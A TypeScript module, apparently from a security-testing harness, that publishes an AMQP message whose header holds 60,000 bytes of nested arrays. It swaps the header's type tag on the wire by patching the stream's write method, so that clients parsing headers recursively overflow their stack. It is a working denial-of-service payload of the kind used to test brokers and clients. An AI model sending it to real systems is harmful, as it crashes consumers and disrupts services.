import type { Options } from 'amqplib';
import type { Intruder } from './intruder.ts';

/** Of one array in another: a tag and a length. */
const LEVEL_BYTES = 5;

/** Arrays in arrays, as deep as fits: no client that reads them by recursion has so much stack. */
function nested(bytes: number): Buffer {
  const levels = Buffer.alloc(bytes - (bytes % LEVEL_BYTES));
  for (let at = 0; at < levels.length; at += LEVEL_BYTES) {
    levels.write('A', at);
    levels.writeUInt32BE(levels.length - at - LEVEL_BYTES, at + 1);
  }
  return levels;
}

/**
 * Publishes with a header that no client would make: bytes are given to ours, which it writes with a tag, their length
 * and themselves, and on the wire the tag becomes that of an array.
 */
export async function publishNested(
  intruder: Intruder,
  [exchange, key]: [exchange: string, key: string],
  body: Buffer,
  options: Options.Publish,
): Promise<'done' | number> {
  const bytes = nested(60_000);
  const { stream } = intruder.connection;
  const write = stream.write.bind(stream);
  stream.write = ((chunk: Buffer, ...rest: []) => {
    const at = chunk.indexOf(bytes);
    if (at > 0) chunk.write('A', at - LEVEL_BYTES);
    return write(chunk, ...rest);
  }) as typeof stream.write;
  try {
    return await intruder.tries((channel) => {
      channel.publish(exchange, key, body, { ...options, headers: { nested: bytes } });
    });
  } finally {
    stream.write = write;
  }
}
